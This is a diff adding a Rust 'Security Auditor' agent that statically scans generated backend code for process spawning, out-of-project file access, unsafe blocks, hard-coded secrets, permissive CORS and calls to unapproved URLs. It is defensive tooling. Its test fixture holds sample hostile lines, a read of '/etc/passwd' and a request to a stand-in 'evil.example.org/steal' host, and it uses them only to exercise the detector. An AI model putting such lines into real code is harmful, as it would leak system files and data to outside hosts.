@@ -0,0 +1,309 @@
+use crate::helpers::command_line::PrintCommand;
+use crate::models::agent_basic::basic_agent::{AgentState, BasicAgent};
+use crate::models::agents::agent_traits::{
+    AgentError, FactSheet, ProjectFile, SecurityFinding, Severity, SpecialFunctions,
+};
+
+use async_trait::async_trait;
+use std::env;
+use tokio_util::sync::CancellationToken;
+
+/// Hosts the generated server may always call (itself)
+const LOCAL_HOSTS: [&str; 3] = ["localhost", "127.0.0.1", "0.0.0.0"];
+
+/// Names that suggest a string literal holds a secret
+const SECRET_NAMES: [&str; 6] = [
+    "secret",
+    "password",
+    "api_key",
+    "apikey",
+    "token",
+    "private_key",
+];
+
+/// Represents a Security Auditor agent
+/// The scan is static, so it is safe to run before any code is built or run
+#[derive(Debug)]
+pub struct AgentSecurityAuditor {
+    /// The attributes belonging to the agent
+    attributes: BasicAgent,
+}
+
+/// Implementation for a Security Auditor agent
+impl AgentSecurityAuditor {
+    /// Create a new Security Auditor agent
+    pub fn new() -> Self {
+        let attributes: BasicAgent = BasicAgent {
+            objective: "Scans backend code for dangerous patterns before it is run".to_string(),
+            position: "Security Auditor".to_string(),
+            state: AgentState::Discovery,
+            memory: vec![],
+        };
+
+        Self { attributes }
+    }
+}
+
+/// Read the lowest severity that blocks the build from SECURITY_BLOCK_SEVERITY
+/// Defaults to "high". Use "none" to never block the build
+pub fn block_severity() -> Option<Severity> {
+    let severity: String =
+        env::var("SECURITY_BLOCK_SEVERITY").unwrap_or_else(|_| "high".to_string());
+    parse_severity(&severity)
+}
+
+/// Parse a severity name (i.e. "high"), returning None for "none" or unknown names
+fn parse_severity(severity: &str) -> Option<Severity> {
+    match severity.trim().to_lowercase().as_str() {
+        "low" => Some(Severity::Low),
+        "medium" => Some(Severity::Medium),
+        "high" => Some(Severity::High),
+        "critical" => Some(Severity::Critical),
+        _ => None,
+    }
+}
+
+/// Find every string literal on a line of code (escaped quotes are not handled)
+fn string_literals(line: &str) -> Vec<&str> {
+    line.split('"').skip(1).step_by(2).collect()
+}
+
+/// Host of a URL (i.e. "https://api.example.com:443/time" becomes "api.example.com")
+fn url_host(url: &str) -> &str {
+    let without_scheme: &str = url.split_once("://").map_or(url, |(_, rest)| rest);
+    without_scheme
+        .split(['/', ':', '?', '#'])
+        .next()
+        .unwrap_or(without_scheme)
+}
+
+/// Check the code of a single line against every rule
+fn scan_line(line: &str, allowed_hosts: &[&str]) -> Vec<(&'static str, Severity, String)> {
+    let mut findings: Vec<(&'static str, Severity, String)> = vec![];
+    let literals: Vec<&str> = string_literals(line);
+
+    if line.contains("Command::new") || line.contains("process::Command") {
+        findings.push((
+            "SEC001",
+            Severity::Critical,
+            "Runs an external process with std::process::Command".to_string(),
+        ));
+    }
+
+    let is_file_access: bool = ["fs::", "File::open", "File::create", "OpenOptions"]
+        .iter()
+        .any(|pattern| line.contains(pattern));
+    if is_file_access {
+        if let Some(path) = literals.iter().find(|literal| {
+            literal.starts_with('/')
+                || literal.starts_with('~')
+                || literal.contains("..")
+                || literal.get(1..3) == Some(":\\")
+        }) {
+            findings.push((
+                "SEC002",
+                Severity::High,
+                format!(
+                    "Accesses the file system outside the project directory ({})",
+                    path
+                ),
+            ));
+        }
+    }
+
+    if line.contains("unsafe {") || line.contains("unsafe fn") || line.contains("unsafe impl") {
+        findings.push(("SEC003", Severity::High, "Uses an unsafe block".to_string()));
+    }
+
+    if let Some((name, value)) = line.split_once('=') {
+        let name: String = name.to_lowercase();
+        let is_secret_name: bool = SECRET_NAMES.iter().any(|secret| name.contains(secret));
+        let has_secret_value: bool = string_literals(value)
+            .first()
+            .is_some_and(|literal| literal.len() >= 8 && !literal.contains(char::is_whitespace));
+        if is_secret_name && has_secret_value {
+            findings.push((
+                "SEC004",
+                Severity::High,
+                "Hard-codes a secret in the source code".to_string(),
+            ));
+        }
+    }
+
+    if line.contains("Cors::permissive") || line.contains("allow_any_origin") {
+        findings.push((
+            "SEC005",
+            Severity::Medium,
+            "Allows requests from any origin with permissive CORS".to_string(),
+        ));
+    }
+
+    for literal in &literals {
+        if literal.starts_with("http://") || literal.starts_with("https://") {
+            let host: &str = url_host(literal);
+            if !LOCAL_HOSTS.contains(&host) && !allowed_hosts.contains(&host) {
+                findings.push((
+                    "SEC006",
+                    Severity::Medium,
+                    format!(
+                        "Calls a URL that is not an approved external URL ({})",
+                        literal
+                    ),
+                ));
+            }
+        }
+    }
+
+    findings
+}
+
+/// Scan a backend file for dangerous patterns
+/// # Arguments
+///
+/// * `file` - The backend file to scan
+/// * `external_urls` - The external URLs the code is allowed to call
+pub fn scan_backend_file(file: &ProjectFile, external_urls: &[String]) -> Vec<SecurityFinding> {
+    let allowed_hosts: Vec<&str> = external_urls.iter().map(|url| url_host(url)).collect();
+
+    file.content
+        .lines()
+        .enumerate()
+        .filter(|(_, line)| !line.trim_start().starts_with("//"))
+        .flat_map(|(index, line)| {
+            scan_line(line, &allowed_hosts)
+                .into_iter()
+                .map(move |(rule_id, severity, message)| SecurityFinding {
+                    rule_id: rule_id.to_string(),
+                    severity,
+                    file: file.path.clone(),
+                    line: index + 1,
+                    message,
+                })
+        })
+        .collect()
+}
+
+/// Describe findings one per line for the approval prompt and the fix loop
+pub fn format_findings(findings: &[SecurityFinding]) -> String {
+    findings
+        .iter()
+        .map(|finding| {
+            format!(
+                "[{}] {:?} {}:{}: {}",
+                finding.rule_id, finding.severity, finding.file, finding.line, finding.message
+            )
+        })
+        .collect::<Vec<String>>()
+        .join("\n")
+}
+
+#[async_trait]
+impl SpecialFunctions for AgentSecurityAuditor {
+    fn get_attributes_from_agent(&self) -> &BasicAgent {
+        &self.attributes
+    }
+
+    fn get_attributes_from_agent_mut(&mut self) -> &mut BasicAgent {
+        &mut self.attributes
+    }
+
+    async fn execute(
+        &mut self,
+        factsheet: &mut FactSheet,
+        _cancel: &CancellationToken,
+    ) -> Result<(), Box<dyn std::error::Error>> {
+        while self.attributes.state != AgentState::Finished {
+            match self.attributes.state {
+                AgentState::Discovery => {
+                    let backend_files: &[ProjectFile] = match &factsheet.backend_files {
+                        Some(backend_files) => backend_files,
+                        None => {
+                            return Err(Box::new(AgentError::Failed(
+                                "There is no backend code to scan".to_string(),
+                            )))
+                        }
+                    };
+                    let external_urls: &[String] =
+                        factsheet.external_urls.as_deref().unwrap_or_default();
+
+                    let mut findings: Vec<SecurityFinding> = backend_files
+                        .iter()
+                        .flat_map(|file| scan_backend_file(file, external_urls))
+                        .collect();
+                    findings.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
+
+                    for finding in &findings {
+                        PrintCommand::Issue.print_agent_message(
+                            &self.attributes.position,
+                            &format_findings(std::slice::from_ref(finding)),
+                        );
+                    }
+
+                    factsheet.security_findings = Some(findings);
+                    self.attributes.state = AgentState::Finished;
+                }
+
+                // Default to Finished state
+                _ => {
+                    self.attributes.state = AgentState::Finished;
+                }
+            }
+        }
+
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn tests_scan_backend_code() {
+        let code: &str = r#"use std::process::Command;
+// let output = Command::new("ls");
+const API_KEY: &str = "sk-live-1234567890";
+let password = body.password.clone();
+let db = fs::read_to_string("/etc/passwd");
+let local = fs::read_to_string("./database.json");
+unsafe { std::ptr::null::<u8>().read() };
+let cors = Cors::permissive();
+let price = reqwest::get("https://api.example.com/price").await;
+let other = reqwest::get("https://evil.example.org/steal").await;
+HttpServer::new(app).bind("http://127.0.0.1:8080");"#;
+
+        let file: ProjectFile = ProjectFile {
+            path: "src/main.rs".to_string(),
+            content: code.to_string(),
+        };
+        let findings: Vec<SecurityFinding> =
+            scan_backend_file(&file, &["https://api.example.com/time".to_string()]);
+        assert_eq!(
+            format_findings(&findings[..1]),
+            "[SEC001] Critical src/main.rs:1: Runs an external process with std::process::Command"
+        );
+        let found: Vec<(&str, usize)> = findings
+            .iter()
+            .map(|finding| (finding.rule_id.as_str(), finding.line))
+            .collect();
+
+        assert_eq!(
+            found,
+            vec![
+                ("SEC001", 1),
+                ("SEC004", 3),
+                ("SEC002", 5),
+                ("SEC003", 7),
+                ("SEC005", 8),
+                ("SEC006", 10),
+            ]
+        );
+    }
+
+    #[test]
+    fn tests_parse_severity() {
+        assert_eq!(parse_severity(" High "), Some(Severity::High));
+        assert_eq!(parse_severity("none"), None);
+        assert!(Severity::Critical >= parse_severity("medium").unwrap());
+    }
+}